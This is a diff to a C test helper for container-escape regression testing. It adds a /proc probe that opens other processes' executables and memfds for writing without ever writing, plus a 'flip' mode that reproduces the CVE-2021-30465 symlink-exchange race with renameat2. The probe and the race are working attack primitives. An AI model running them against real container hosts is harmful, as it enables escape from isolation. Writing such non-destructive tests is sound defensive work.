@@ -7,7 +7,8 @@
  *       until the file STOP exists; for every process other than itself
  *       try readlink /proc/<pid>/exe and /proc/<pid>/cwd, list
  *       /proc/<pid>/fd and readlink each entry, and open /proc/<pid>/exe
- *       with O_PATH (fstat: dev, ino), keeping one fd per distinct file;
+ *       with O_PATH (fstat: dev, ino), keeping one fd per distinct file
+ *       that is not reachable by its own path in the container;
  *       every kept fd is re-opened through /proc/self/fd/<n> with O_WRONLY
  *       (never written: opening for write is the capability the attack
  *       needs, and a test must not damage the host if it fails).
@@ -17,8 +18,17 @@
  *         EXEID <pid> <dev> <ino>     open(/proc/<pid>/exe, O_PATH) + fstat
  *         CWD <pid> <target>          readlink /proc/<pid>/cwd succeeded
  *         FD <pid> <n> <target>       readlink /proc/<pid>/fd/<n> succeeded
- *         WOPEN <dev> <ino>           an exe was opened for writing
+ *         WOPEN <dev> <ino> seals=<n> an exe was opened for writing (F_GET_SEALS)
+ *         FDWOPEN <pid> <n> seals=<s> <target>
+ *                                     a /memfd: fd of another process was opened
+ *                                     for writing (never written)
+ *         STATUS <pid> | CapPrm .. | CapEff .. | NoNewPrivs ..  after a new EXE line
  *         DONE <loops>                at exit
+ *
+ *   attacker flip A B STOP
+ *       Swap A and B with renameat2(RENAME_EXCHANGE) in a tight loop until
+ *       the file STOP exists (CVE-2021-30465's race: a directory and a
+ *       symlink to / trade places on a volume shared with a victim).
  * Exit status 0 unless the arguments are wrong.
  */
 #define _GNU_SOURCE
@@ -31,8 +41,13 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/stat.h>
+#include <sys/syscall.h>
 #include <sys/types.h>
 #include <unistd.h>
+
+#ifndef RENAME_EXCHANGE
+#define RENAME_EXCHANGE (1 << 1)
+#endif
 
 #define HSIZE (1 << 17)
 static uint64_t seen_lines[HSIZE];
@@ -104,13 +119,38 @@ static void try_write_kept(void)
         snprintf(path, sizeof(path), "/proc/self/fd/%d", kept[i].fd);
         int w = open(path, O_WRONLY | O_CLOEXEC);
         if (w >= 0) {
+            int seals = fcntl(w, F_GET_SEALS);
             close(w);           /* nothing is written */
             kept[i].opened = 1;
-            snprintf(line, sizeof(line), "WOPEN %llu %llu",
-                     (unsigned long long)kept[i].dev, (unsigned long long)kept[i].ino);
+            snprintf(line, sizeof(line), "WOPEN %llu %llu seals=%d",
+                     (unsigned long long)kept[i].dev, (unsigned long long)kept[i].ino, seals);
             log_once(line);
         }
     }
+}
+
+/* STATUS <pid> <caps and flags>: what the reached process was (readable by anyone) */
+static void log_status(const char *pid)
+{
+    char path[64], buf[4096], line[1024];
+    int n = 0;
+    snprintf(path, sizeof(path), "/proc/%s/status", pid);
+    FILE *f = fopen(path, "re");
+    if (!f)
+        return;
+    n = snprintf(line, sizeof(line), "STATUS %s", pid);
+    while (fgets(buf, sizeof(buf), f) && n < (int)sizeof(line) - 64) {
+        if (!strncmp(buf, "CapPrm:", 7) || !strncmp(buf, "CapEff:", 7) ||
+            !strncmp(buf, "NoNewPrivs:", 11) || !strncmp(buf, "Uid:", 4)) {
+            buf[strcspn(buf, "\n")] = 0;
+            for (char *c = buf; *c; c++)
+                if (*c == '\t')
+                    *c = ' ';
+            n += snprintf(line + n, sizeof(line) - n, " | %s", buf);
+        }
+    }
+    fclose(f);
+    log_once(line);
 }
 
 static void probe_pid(const char *pid)
@@ -126,17 +166,24 @@ static void probe_pid(const char *pid)
     if (l >= 0) {
         target[l] = 0;
         snprintf(line, sizeof(line), "EXE %s %s", pid, target);
-        log_once(line);
+        if (log_once(line))
+            log_status(pid);
     }
     int fd = open(path, O_PATH | O_CLOEXEC);
     if (fd >= 0) {
-        struct stat st;
+        struct stat st, mine;
         if (fstat(fd, &st) == 0) {
             snprintf(line, sizeof(line), "EXEID %s %llu %llu", pid,
                      (unsigned long long)st.st_dev, (unsigned long long)st.st_ino);
             log_once(line);
         }
-        keep_exe(fd);
+        /* a file of our own filesystem is no prize (and holding it open for
+         * writing would make the runtime's execs fail with ETXTBSY) */
+        if (l >= 0 && stat(target, &mine) == 0 && mine.st_dev == st.st_dev &&
+            mine.st_ino == st.st_ino)
+            close(fd);
+        else
+            keep_exe(fd);
     }
 
     snprintf(path, sizeof(path), "/proc/%s/cwd", pid);
@@ -161,6 +208,17 @@ static void probe_pid(const char *pid)
                 target[l] = 0;
                 snprintf(line, sizeof(line), "FD %s %s %s", pid, e->d_name, target);
                 log_once(line);
+                if (!strncmp(target, "/memfd:", 7)) {
+                    /* the runtime's memfds (helper image, plan): writable? */
+                    int w = open(fpath, O_WRONLY | O_CLOEXEC);
+                    if (w >= 0) {
+                        int seals = fcntl(w, F_GET_SEALS);
+                        close(w);   /* nothing is written */
+                        snprintf(line, sizeof(line), "FDWOPEN %s %s seals=%d %s", pid,
+                                 e->d_name, seals, target);
+                        log_once(line);
+                    }
+                }
             }
         }
         closedir(d);
@@ -200,9 +258,28 @@ static int watch(const char *log, const char *stop)
     return 0;
 }
 
+/* CVE-2021-30465's original race: swap a directory and a symlink (to /)
+ * atomically, as fast as possible, until STOP exists */
+static int flip(const char *a, const char *b, const char *stop)
+{
+    unsigned long n = 0;
+    for (;;) {
+        if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0) {
+            perror("renameat2");
+            return 1;
+        }
+        if (++n % 1024 == 0 && access(stop, F_OK) == 0)
+            break;
+    }
+    printf("flipped %lu\n", n);
+    return 0;
+}
+
 int main(int argc, char **argv)
 {
     if (argc == 4 && !strcmp(argv[1], "watch"))
         return watch(argv[2], argv[3]);
+    if (argc == 5 && !strcmp(argv[1], "flip"))
+        return flip(argv[2], argv[3], argv[4]);
     return 2;
 }
